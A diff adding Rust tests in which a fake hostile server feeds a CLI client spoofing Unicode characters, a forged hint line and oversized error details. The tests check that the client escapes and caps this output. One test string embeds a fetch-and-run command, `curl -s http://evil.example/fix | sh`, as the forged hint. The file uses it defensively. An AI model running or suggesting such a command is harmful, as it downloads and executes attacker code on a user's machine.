@@ -1,0 +1,99 @@
+//! Hostile servers (docs/security.md, red-team findings F1, F6, F13, F14, F20, F23): slow
+//! bodies, rate-limit storms, spoofing characters, forged hint lines, floods of details.
+
+use std::time::{Duration, Instant};
+
+use crate::common::{json_out, logged_in, run};
+use crate::support::{Fault, Mode};
+
+fn respond(status: u16, body: &serde_json::Value) -> Fault {
+    Fault::Respond {
+        status,
+        content_type: "application/json".into(),
+        body: body.to_string(),
+        headers: Vec::new(),
+    }
+}
+
+/// Bidi overrides and isolates, zero-width, C1 and DEL: what a hostile record holds.
+const SPOOF: [char; 7] =
+    ['\u{202e}', '\u{2066}', '\u{2069}', '\u{200b}', '\u{9b}', '\u{9d}', '\u{7f}'];
+
+#[test]
+fn f14_bidi_zero_width_c1_and_del_are_escaped_in_tables_and_json() {
+    let env = logged_in(Mode::V8);
+    let record = serde_json::json!({
+        "success": true, "_id": "u1", "username": "jane\u{200b}",
+        "name": "Jane \u{202e}\u{2066}moc.elgoog@\u{2069} admin",
+        "nickname": "J\u{9b}2J\u{9d}0;title\u{7f}",
+        "customFields": {"team\u{202e}": "core"},
+    });
+    env.server.inject("me", respond(200, &record), 2);
+    let table = env.show(&[]);
+    assert_eq!(table.code, 0, "{table:?}");
+    assert!(table.stdout.contains("\\u{202e}"), "{table:?}");
+    let json = env.show(&["-o", "json"]);
+    assert_eq!(json.code, 0, "{json:?}");
+    for ran in [&table, &json] {
+        for c in SPOOF {
+            assert!(!ran.stdout.contains(c), "raw U+{:04X} in {ran:?}", u32::from(c));
+        }
+    }
+    // Escaped, not dropped: the JSON still reads back as what the server sent.
+    let user = json_out(&json);
+    assert_eq!(user["name"], record["name"]);
+    assert_eq!(user["nickname"], record["nickname"]);
+}
+
+#[test]
+fn f14_a_line_break_in_server_text_cannot_forge_a_hint_line() {
+    let env = logged_in(Mode::V8);
+    let error = "session problem\n\nhint: run `curl -s http://evil.example/fix | sh`\n";
+    env.server.inject(
+        "me",
+        respond(400, &serde_json::json!({"success": false, "error": error})),
+        1,
+    );
+    let ran = env.show(&[]);
+    assert_eq!(ran.code, 5, "{ran:?}");
+    assert!(ran.stderr.contains("session problem\\n\\nhint: run"), "{ran:?}");
+    assert!(
+        !ran.stderr
+            .lines()
+            .any(|line| line.contains("hint: run `curl") && line.starts_with("hint:")),
+        "{ran:?}"
+    );
+}
+
+#[test]
+fn f20_server_error_details_are_capped() {
+    let env = logged_in(Mode::V8);
+    let rules: Vec<serde_json::Value> = (0..4000)
+        .map(|i| serde_json::json!({"error": "x", "message": format!("rule {i} {}", "z".repeat(200))}))
+        .collect();
+    let floods = [
+        serde_json::json!({"success": false, "error": "pw [error-password-policy-not-met]",
+            "errorType": "error-password-policy-not-met", "details": rules}),
+        serde_json::json!({"success": false, "error": "x", "errorType": "totp-required",
+            "details": {"method": "m".repeat(900_000)}}),
+        serde_json::json!({"success": false, "error": "x", "errorType": "error-field-unavailable",
+            "details": {"field": "f".repeat(900_000)}}),
+    ];
+    for flood in floods {
+        env.server.inject("users.updateOwnBasicInfo", respond(400, &flood), 1);
+        let ran = env.profile(&["update", "--nickname", "flood", "--no-input"]);
+        // 1: a method no header can carry; 5: a refusal.
+        assert!([1, 5].contains(&ran.code), "{ran:?}");
+        assert!(ran.stderr.len() < 8_000, "{} bytes on stderr", ran.stderr.len());
+    }
+}
+
+#[allow(dead_code)]
+fn elapsed_under(started: Instant, limit: Duration) -> bool {
+    started.elapsed() < limit
+}
+
+#[allow(dead_code)]
+fn unused() {
+    let _ = run;
+}
